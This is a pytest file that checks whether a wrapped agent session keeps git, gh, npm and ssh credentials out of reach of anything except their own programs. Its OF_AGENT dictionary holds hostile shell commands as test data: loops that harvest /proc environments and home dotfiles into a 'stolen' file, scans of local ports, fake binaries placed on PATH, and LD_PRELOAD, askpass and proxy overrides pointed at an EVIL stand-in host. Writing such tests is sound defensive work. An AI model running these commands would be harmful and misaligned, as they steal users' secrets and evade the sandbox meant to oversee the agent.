"""While a key is open in a wrapped session, nothing but its program gets it."""

import shlex
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.sandbox.keys import servers
from tests.sandbox.keys.home import Home
from tests.sandbox.keys.servers import Server
from tests.sandbox.keys.test_attacks import BESIDE, SCRIPT, Attack, Field, Logins, attacks
from tests.sandbox.keys.test_attacks import evil as evil
from tests.sandbox.keys.test_attacks import logins as logins
from tests.sandbox.keys.test_git_ssh import needs_sshd
from tests.sandbox.keys.test_git_ssh import ssh as ssh
from tests.sandbox.keys.test_stand_ins import install
from tests.waiting import HANG_SECONDS
from tests.wrap.support import environment, words

pytestmark = pytest.mark.rest


class WrapField(Field):
    """What an attack is tried on, in a session: what was there before is of the same."""

    def __init__(self, home: Home, project: Path, good: Server, evil: Server) -> None:
        super().__init__(home, project, good, evil)
        self.before: list[str] = []

    def prepare(self, attack: Attack, monkeypatch: pytest.MonkeyPatch) -> None:
        """All that was there before the call."""
        kept = {"before": "", "environment": {}, "path": ""}
        super().prepare(attack.replace(**kept), monkeypatch)
        if attack.path:
            self.before.append(f"export PATH={self.project / attack.path}:$PATH")
        self.before += [f"export {n}={shlex.quote(v)}" for n, v in attack.environment.items()]
        if attack.before:
            self.before.append(f"bash -c {shlex.quote(attack.before)}")

    def run(self, text: str) -> str:
        """What a session says in which an agent does what came before, and then this."""
        return self.script("\n".join((*self.before, f"bash -c {shlex.quote(text)}")))

    def script(self, text: str) -> str:
        """What a session of a shell that runs this says."""
        line = words(self.project, ["bash", "-c", self.filled(text)])
        path = f"{self.home.programs}:{environment()['PATH']}"
        done = subprocess.run(
            line,
            capture_output=True,
            cwd=self.project,
            env={**environment(), "PATH": path},
            timeout=HANG_SECONDS,
        )
        return (done.stdout + done.stderr).decode("utf-8", "replace")


@pytest.fixture
def field(home: Home, project: Path, remote: Server, evil: Server) -> WrapField:
    """A project with a remote of git that wants a password."""
    return WrapField(home, project, remote, evil)


@pytest.fixture
def token_field(home: Home, project: Path, evil: Server) -> Iterator[WrapField]:
    """A project, and a server that takes the tokens of gh and of npm."""
    with servers.serving(servers.says(b'{"username": "somebody"}')) as server:
        yield WrapField(home, project, server, evil)


@pytest.mark.parametrize("attack", attacks("git"))
def test_git_loses_no_key(
    field: WrapField, monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    field.prepare(attack, monkeypatch)
    assert not field.lost(field.run(attack.text))


@pytest.mark.parametrize("attack", [*attacks("gh"), *attacks("npm")])
def test_token_files_lose_no_key(
    token_field: WrapField, monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    token_field.prepare(attack, monkeypatch)
    assert not token_field.lost(token_field.run(attack.text))


@pytest.mark.parametrize("attack", attacks("stand_in"))
def test_stand_ins_lose_no_key(
    token_field: WrapField, monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    install(token_field.home, token_field.project, token_field.good.port)
    token_field.prepare(attack, monkeypatch)
    assert not token_field.lost(token_field.run(attack.text))


@needs_sshd
@pytest.mark.parametrize("attack", attacks("ssh"))
def test_an_agent_signs_for_no_other(
    home: Home,
    project: Path,
    evil: Server,
    logins: Logins,
    monkeypatch: pytest.MonkeyPatch,
    attack: Attack,
) -> None:
    field = logins.on(WrapField(home, project, evil, evil))
    field.prepare(attack, monkeypatch)
    assert not field.lost(field.run(attack.text))
    assert logins.signed <= logins.accepted


CALLS = ["git fetch", "gh pr view 4", "npm whoami"]


@pytest.mark.parametrize("asks", [False, True])
def test_a_redirection_takes_no_key_along(field: WrapField, *, asks: bool) -> None:
    """`asks`: the server wants the key first."""
    field.good.redirects(field.evil.url, asks=asks)
    said = "\n".join(map(field.run, CALLS))
    assert not field.lost(said)
    assert not field.evil.asked, said


OF_AGENT = {
    "reads what belongs to processes": (
        "(while :; do for p in /proc/[0-9]*; do for f in environ cmdline root/root/.npmrc; do"
        " read -r -d '' x < $p/$f && echo $x >> stolen; done; done; done) 2>/dev/null &"
    ),
    "reads its own home": "(while :; do for f in ~/.*; do mapfile x < $f; echo ${x[*]} >> stolen;"
    " done; done) 2>/dev/null &",
    "asks every port for the key": (
        "(for p in {3100..3200} {32768..33000}; do exec 5<>/dev/tcp/127.0.0.1/$p && printf"
        " 'CONNECT credential.execpolicy.invalid:1 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&5 &&"
        " read -t 1 x <&5 && echo $x >> stolen; done) 2>/dev/null &"
    ),
    "makes programs": "mkdir -p bin; cp steal bin/git; cp steal bin/gh; cp steal bin/npm;"
    " cp steal bin/curl; export PATH=$PWD/bin:$PATH",
    "sets what the programs obey": "export GIT_SSH_COMMAND=PROJECT/steal GIT_ASKPASS=PROJECT/steal"
    " GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=credential.helper GIT_CONFIG_VALUE_0=PROJECT/steal"
    " LD_PRELOAD=PROJECT/steal GH_HOST=EVILHOST npm_config_registry=EVIL/ http_proxy=EVIL"
    " HOME=$PWD XDG_CONFIG_HOME=$PWD BASH_ENV=PROJECT/steal SHELL=PROJECT/steal CURL_HOME=$PWD",
    "is a function": "git() { PROJECT/steal; }; gh() { PROJECT/steal; }; export -f git gh",
    "gives descriptors": "exec 7<>stolen 8>>stolen 9<PROJECT",
    "leaves a command that reads": "bash -c '(AGAIN for p in /proc/[0-9]*; do cat $p/environ"
    " $p/cmdline $p/root/tmp/* $p/fd/* 2>/dev/null >> stolen; done; done) &'",
    "leaves a command that waits for files": "bash -c '(AGAIN find /tmp /run /dev/shm ~ -type f"
    " -exec cat {} + 2>/dev/null >> stolen; done) &'",
}

ASKING = ("makes programs", "sets what the programs obey")
"""Of these each call asks, so that no key is opened at all."""


@pytest.mark.parametrize("name", OF_AGENT)
def test_the_agent_gets_no_key(
    field: WrapField, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """Its own process, which commands are not, does what it can while each call runs."""
    field.good.wants_any(0.4)
    field.prepare(Attack("", SCRIPT), monkeypatch)
    calls = "; ".join(f"bash -c {shlex.quote(each)}" for each in CALLS)
    said = field.script(f"{OF_AGENT[name]}\n{calls}; kill %1 2>/dev/null")
    assert not field.lost(said), said
    assert field.good.keys or name in ASKING, said


@pytest.mark.parametrize("name", BESIDE)
def test_a_command_beside_gets_no_key(
    field: WrapField, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """The server takes every key, and is slow, so that the other command has its time."""
    field.good.wants_any(0.4)
    field.prepare(Attack("", SCRIPT), monkeypatch)
    (field.project / "sub").mkdir()
    beside = shlex.quote(f"touch began; {BESIDE[name]}")
    calls = "; ".join(f"bash -c {shlex.quote(f'cd sub && {each}')}" for each in CALLS)
    waits = "until test -e began; do read -t 0.05 <> <(:); done"
    said = field.script(f"bash -c {beside} &\n{waits}; {calls}; kill %1")
    assert not field.lost(said), said
